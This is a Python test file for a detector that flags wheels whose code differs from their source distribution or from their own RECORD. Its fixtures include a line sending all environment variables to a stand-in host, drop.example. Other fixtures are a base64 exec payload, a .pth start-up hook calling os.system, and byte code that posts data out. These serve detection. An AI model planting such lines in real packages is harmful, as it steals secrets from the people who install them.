"""A wheel is held against its own RECORD and against the source it claims to be made from."""

from __future__ import annotations

import importlib.util
import io
import marshal
from collections.abc import Mapping
from dataclasses import replace

import pytest

from app.core.finding import Finding
from app.core.package import Package
from app.core.specimen import ArtifactFacts, ArtifactKind, ReleaseSpecimen
from tests.builders import a_file, an_artifact
from tests.detectors.artifacts import METADATA, Files, places, sdist, told, wheel
from tests.worker.inspection.archives import FILENAMES, WHEEL
from tests.worker.inspection.zips import Zipped, recorded, zipped
from worker.detectors import artifact_mismatch
from worker.inspection.child import examine
from worker.inspection.limits import Limits
from worker.inspection.wire import Question

PACKAGE = Package.parse("pypi/imgpress@3.0.0")
INFO = "imgpress-3.0.0.dist-info"
RECORD = "a-1.0.0.dist-info/RECORD"  # where the tests' builder puts it
QUIET = "def press(image):\n    return image\n"
SENDS = "import os, urllib.request\nurllib.request.urlopen('https://drop.example', data=str(os.environ).encode())\n"
RUNS = "import subprocess\nsubprocess.run(['convert', 'a', 'b'])\n"


def between(source: Files, built: Files, *more: ArtifactFacts) -> list[Finding]:
    """What the rule says of a source distribution and a wheel."""
    return release(sdist(source), wheel(built), *more)


def release(*artifacts: ArtifactFacts, before: tuple[ArtifactFacts, ...] = ()) -> list[Finding]:
    return list(artifact_mismatch.detect_release(ReleaseSpecimen(PACKAGE, artifacts, before)))


def own_record(files: Mapping[str, str], **changes: bytes) -> list[Finding]:
    """What the rule says of a real wheel whose files were changed after RECORD was written."""
    whole = recorded({f"{INFO}/METADATA": METADATA, **files})
    archive = zipped(*(Zipped(name, content) for name, content in {**whole, **changes}.items()))
    question = Question(PACKAGE, FILENAMES[WHEEL], WHEEL, "0" * 64, len(archive), Limits())
    return list(examine(question, io.BytesIO(archive), detectors=[artifact_mismatch]).findings)


class TestAlarm:
    def test_a_file_that_only_the_wheel_has_and_that_sends_is_high(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, "imgpress/_compat.py": SENDS})
        assert told([found]) == [
            "high: its wheel can do what its source distribution does not show, in imgpress/_compat.py"
        ]
        assert (places(found), found.reach) == (["imgpress/_compat.py:2"], "import")

    @pytest.mark.parametrize("payload", [SENDS, RUNS, "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"])
    def test_a_file_that_the_wheel_has_with_more_in_it(self, payload: str) -> None:
        found = between({"src/imgpress/__init__.py": QUIET}, {"imgpress/__init__.py": QUIET + payload})
        assert [one.severity for one in found] == ["high"]

    def test_a_decoy_elsewhere_in_the_source_explains_nothing(self) -> None:
        source = {"imgpress/__init__.py": QUIET, "tools/upload.py": SENDS}
        assert [one.severity for one in between(source, {"imgpress/__init__.py": QUIET + SENDS})] == ["high"]

    def test_the_same_call_with_another_host_is_another_ability(self) -> None:
        line = "import urllib.request as r\nURL = 'https://{0}.example'\nr.urlopen(URL)\n"
        source, built = line.format("docs"), line.format("drop")
        (found,) = between({"imgpress/a.py": source}, {"imgpress/a.py": built})
        assert told([found]) == ["high: its wheel can do what its source distribution does not show, in imgpress/a.py"]

    def test_the_same_call_with_other_data_is_a_remark(self) -> None:
        source, built = (f"DATA = '{text}'\nexec(DATA)\n" for text in ("print(1)", "print(2)"))
        (found,) = between({"imgpress/a.py": source}, {"imgpress/a.py": built})
        assert told([found]) == ["medium: its wheel holds other code than its source distribution, in imgpress/a.py"]

    def test_a_start_up_hook_that_stands_only_in_the_wheel(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, "imgpress.pth": "import os; os.system('id')\n"})
        assert (found.severity, found.reach) == ("high", "start-up")

    def test_code_that_lands_in_site_packages_by_way_of_a_data_folder(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, "imgpress-3.0.0.data/purelib/helper.py": RUNS})
        assert "in helper.py" in told([found])[0]

    def test_several_files_are_one_finding(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, **{f"imgpress/m{n}.py": f"{RUNS}# {n}\n" for n in range(9)}})
        assert told([found])[0].endswith("in imgpress/m0.py and 8 more files")

    def test_a_wheel_for_another_machine_hides_behind_none(self) -> None:
        source = {"imgpress/a.py": QUIET}
        first, second = wheel({"imgpress/b.py": QUIET + "# b\n"}), wheel({"imgpress/b.py": SENDS})
        assert [one.severity for one in release(sdist(source), first, second)] == ["high", "low"]

    def test_many_files_of_one_name_are_compared_in_no_time(self) -> None:
        def artifact(kind: ArtifactKind, top: str, mark: str) -> ArtifactFacts:
            files = (a_file(f"{top}{n}/a.py", sha256=f"{mark}{n}", language="python") for n in range(30_000))
            return an_artifact(*files, kind=kind)

        found = release(artifact(ArtifactKind.SDIST, "s", "1"), artifact(ArtifactKind.WHEEL, "w", "2"))
        assert [one.severity for one in found] == ["low"]

    def test_byte_code_without_its_source(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, "imgpress/core.pyc": b"\xcb\r\r\n"})
        assert told([found]) == ["medium: its wheel holds byte code without its source, imgpress/core.pyc"]

    def test_byte_code_without_its_source_that_can_do_something(self) -> None:
        code = compile("import requests; requests.post('https://drop.example/')", "core.py", "exec")
        written = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)
        (found,) = between(
            {"imgpress/__init__.py": QUIET}, {"imgpress/__init__.py": QUIET, "imgpress/core.pyc": written}
        )
        assert found.severity == "high"
        assert places(found) == ["imgpress/core.pyc:1"]

    def test_what_the_old_wheel_held_as_well_is_not_new(self) -> None:
        source, built = sdist({"imgpress/__init__.py": QUIET}), wheel({"imgpress/_compat.py": SENDS})
        assert [one.new for one in release(source, built, before=(source, built))] == [False]
        assert [one.new for one in release(source, built, before=(source,))] == [True]

    def test_a_file_that_was_changed_after_record_was_written(self) -> None:
        (found,) = own_record({"imgpress/__init__.py": QUIET}, **{"imgpress/__init__.py": SENDS.encode()})
        assert told([found]) == ["high: its wheel does not match its own RECORD, first in imgpress/__init__.py"]
        assert found.evidence[0].says.plain() == "has other content than RECORD says"

    def test_a_file_that_record_does_not_list(self) -> None:
        (found,) = own_record({"imgpress/__init__.py": QUIET}, **{"evil.py": SENDS.encode()})
        assert (found.severity, places(found), found.reach) == ("high", ["evil.py:0"], "import")

    def test_a_wheel_without_a_record(self) -> None:
        archive = zipped(Zipped("imgpress/__init__.py", QUIET.encode()), Zipped(f"{INFO}/METADATA", METADATA.encode()))
        question = Question(PACKAGE, FILENAMES[WHEEL], WHEEL, "0" * 64, len(archive), Limits())
        (found,) = examine(question, io.BytesIO(archive), detectors=[artifact_mismatch]).findings
        assert told([found]) == ["high: its wheel does not match its own RECORD"]


class TestInnocentTwin:
    def test_the_same_files_in_another_folder(self) -> None:
        """The shape of projects that keep their code in `src`, and of those that map a folder to the package."""
        assert between({"src/imgpress/run.py": RUNS}, {"imgpress/run.py": RUNS}) == []
        assert between({"python/run.py": RUNS}, {"run.py": RUNS}) == []
        assert between({"run.py": RUNS}, {"imgpress/run.py": RUNS}) == []

    def test_a_file_that_is_mapped_to_the_package_explains_what_it_does(self) -> None:
        found = between({"run.py": RUNS + "# 1\n"}, {"imgpress/run.py": RUNS + "# 2\n"})
        assert [one.severity for one in found] == ["medium"]

    def test_a_version_that_the_build_writes_into_a_file(self) -> None:
        """The shape of versioneer and of setuptools-scm."""
        source = {"imgpress/__init__.py": f"__version__ = '0'\n{RUNS}"}
        built = {"imgpress/__init__.py": f"__version__ = '3.0.0'\n\n{RUNS}"}
        assert [one.severity for one in between(source, built)] == ["medium"], "a remark: what it runs may be other"
        quiet = {"imgpress/__init__.py": f"__version__ = '0'\n{QUIET}"}
        assert between(quiet, {"imgpress/__init__.py": f"__version__ = '3.0.0'\n{QUIET}"}) == []

    @pytest.mark.parametrize(
        ("path", "text"),
        [
            ("imgpress/_version.py", "__version__ = version = '3.0.0'\n__version_tuple__ = (3, 0, 0)\n"),
            ("imgpress/__config__.py", "import os\nblas = {'lib': os.path.join('a', 'b')}\n"),
            ("imgpress/wire_pb2.py", "from google.protobuf import descriptor_pool as p\nD = p.Default()\n"),
        ],
    )
    def test_generated_files_that_do_nothing_are_low(self, path: str, text: str) -> None:
        """The shape of setuptools-scm, numpy, and protobuf."""
        source = {"imgpress/__init__.py": QUIET}
        assert [one.severity for one in between(source, {**source, path: text})] == ["low"]

    def test_a_hook_that_the_build_writes_is_medium(self) -> None:
        """The shape of setuptools, whose `setup.py` holds the line of its hook."""
        source = {"imgpress/__init__.py": QUIET}
        (found,) = between(source, {**source, "imgpress-shim.pth": "import imgpress.shim\n"})
        assert told([found]) == [
            "medium: its wheel brings a start-up hook that its source distribution lacks, imgpress-shim.pth"
        ]

    def test_compiled_modules_and_stubs(self) -> None:
        """The shape of extension modules."""
        source: Files = {"imgpress/__init__.py": QUIET, "imgpress/fast.pyx": "cdef int a\n"}
        built: Files = {"imgpress/__init__.py": QUIET, "imgpress/fast.so": b"\x7fELF", "imgpress/fast.pyi": "a: int\n"}
        assert between(source, built) == []

    def test_byte_code_of_a_file_that_is_there(self) -> None:
        source = {"imgpress/__init__.py": QUIET, "imgpress/a.py": ""}
        assert between(source, {**source, "imgpress/__pycache__/a.cpython-311.pyc": b"\xcb\r"}) == []

    def test_tests_that_are_packed_into_the_wheel_only(self) -> None:
        source = {"imgpress/__init__.py": QUIET}
        assert between(source, {**source, "imgpress/tests/test_run.py": RUNS}) == []

    def test_one_kind_of_artifact_says_nothing(self) -> None:
        assert release(wheel({"imgpress/__init__.py": SENDS})) == []
        assert release(sdist({"imgpress/__init__.py": SENDS})) == []

    def test_what_was_only_partly_read_in_the_source_cannot_be_missed(self) -> None:
        source = sdist({"imgpress/__init__.py": QUIET})
        half = replace(source, files=tuple(replace(file, partly="12 MiB") for file in source.files))
        (found,) = release(half, wheel({"imgpress/__init__.py": SENDS}))
        assert found.severity == "medium"

    def test_a_wheel_that_matches_its_record(self) -> None:
        assert own_record({"imgpress/__init__.py": QUIET, "imgpress/a b.py": QUIET}) == []

    def test_a_record_that_lists_a_file_too_many_is_medium(self) -> None:
        whole = recorded({f"{INFO}/METADATA": METADATA, "a.py": "", "gone.txt": ""})
        (found,) = own_record({"a.py": ""}, **{RECORD: whole[RECORD]})
        assert (found.severity, places(found)) == ("medium", ["gone.txt:0"])
